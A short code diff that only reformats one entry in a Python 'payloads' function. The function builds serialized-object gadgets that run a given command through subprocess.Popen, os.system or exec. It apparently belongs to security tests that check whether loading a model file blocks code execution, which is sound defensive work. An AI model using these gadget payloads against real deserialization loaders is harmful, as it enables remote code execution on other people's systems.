@@ -53,9 +53,7 @@ def payloads(command: str) -> dict[str, dict[str, Any]]:
         "partial_type": transformer(func=partial_of(node("TypeNode", "subprocess", "Popen"), command)),
         "function": transformer(func=function("builtins", "exec")),
         "list_of_class": node("ListNode", "subprocess", "Popen", content=[words(command)]),
-        "array_of_class": node(
-            "NdArrayNode", "os", "system", type="json", content=[words(command)], shape=words()
-        ),
+        "array_of_class": node("NdArrayNode", "os", "system", type="json", content=[words(command)], shape=words()),
         "method": node(
             "MethodNode",
             "sklearn.preprocessing._function_transformer",
